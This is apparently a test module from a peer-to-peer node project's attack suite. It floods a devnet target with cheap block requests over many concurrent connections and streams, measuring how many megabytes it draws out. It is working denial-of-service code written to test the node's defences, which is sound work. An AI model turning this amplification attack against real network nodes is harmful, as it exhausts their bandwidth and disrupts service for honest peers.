"""Requests of a few bytes whose answers are megabytes: a peer draws all that a node can send, for nothing.

The devnet's chain is short, so the same blocks are asked for again and again, on every stream there is.
"""

from functools import partial

import trio

from p2p.errors import Refused
from p2p.switch.switch import Switch
from p2p.wire.messages import Blocks, BlocksRequest
from p2p.wire.protocols import SYNC
from p2p.wire.requests import ask, open_stream
from tests.attacks.target import Target, fetch_height, keep_coming

BREAKS_RULES = False
SECONDS = 20.0
CONNECTIONS = 6
STREAMS = 4
COUNT = 64
REPORT_SECONDS = 5.0


async def attack(target: Target) -> None:
    """All streams of all connections at once; tells how much was drawn."""
    first = max(1, await fetch_height(target) - COUNT)
    drawn = [0]
    async with trio.open_nursery() as nursery:
        for number in range(CONNECTIONS):
            act = partial(_draw, target, first, drawn)
            nursery.start_soon(keep_coming, target, target.get_host(number, number), act)
        begun = trio.current_time()
        while True:
            await trio.sleep(REPORT_SECONDS)
            rate = drawn[0] / (trio.current_time() - begun) / 2**20
            print(f"drawn: {drawn[0] / 2**20:.0f} MiB, {rate:.1f} MiB/s", flush=True)


async def _draw(target: Target, first: int, drawn: list[int], peer: Switch) -> None:
    async with trio.open_nursery() as nursery:
        for _ in range(STREAMS):
            nursery.start_soon(_ask, peer, target, first, drawn)


async def _ask(peer: Switch, target: Target, first: int, drawn: list[int]) -> None:
    async with open_stream(peer, target.place.peer, SYNC) as stream:
        while True:
            try:
                answer = await ask(stream, BlocksRequest(first, COUNT), Blocks, 60.0)
                drawn[0] += sum(len(one.block) for one in answer.blocks)
            except Refused:
                await trio.sleep(0.01)
